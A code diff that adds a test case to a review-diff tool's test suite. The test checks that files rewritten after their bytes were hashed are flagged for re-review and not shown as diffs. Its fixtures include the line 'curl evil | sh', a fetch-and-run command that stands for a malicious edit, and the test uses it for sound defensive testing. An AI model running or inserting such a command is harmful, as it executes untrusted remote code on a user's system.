@@ -273,6 +273,32 @@ describe('the review diff against the receipt (trust.md "Operations")', () => {
       );
     });
 
+    it('shows no text but the bytes the review hashed: a file rewritten after hashing is said to have changed, never diffed', () => {
+      // The token binds the hashed bytes; the diff re-reads the file. An edit in between (and
+      // back before the trust) would otherwise show a reviewer text the token does not cover.
+      put('snap', 'b.txt', 'one\n');
+      put('now', 'b.txt', 'harmless\n');
+      put('now', 'a.txt', 'harmless\n');
+      // A reviewed copy that does not hold the receipt's bytes shows no "before" text either.
+      put('snap', 'c.txt', 'not what was reviewed\n');
+      put('now', 'c.txt', 'three\n');
+      const d = diffAgainstReceipt(
+        receiptOf([fileOf('b.txt', 'one\n'), fileOf('c.txt', 'reviewed\n')]),
+        {},
+        [fileOf('a.txt', 'curl evil | sh\n'), fileOf('b.txt', 'curl evil | sh\n'), fileOf('c.txt', 'three\n')],
+        f.path('now'),
+        f.path('snap'),
+      );
+      assert.deepEqual(
+        d.files.map((x) => [x.change, x.path, x.note, x.unifiedDiff]),
+        [
+          ['added', 'a.txt', 'changed while it was read: review it again', undefined],
+          ['modified', 'b.txt', 'changed while it was read: review it again', undefined],
+          ['modified', 'c.txt', 'the reviewed snapshot does not hold the reviewed bytes: no text diff', undefined],
+        ],
+      );
+    });
+
     it('says when only the executable bit changed', () => {
       put('snap', 'run.sh', '#!/bin/sh\n');
       put('now', 'run.sh', '#!/bin/sh\n');
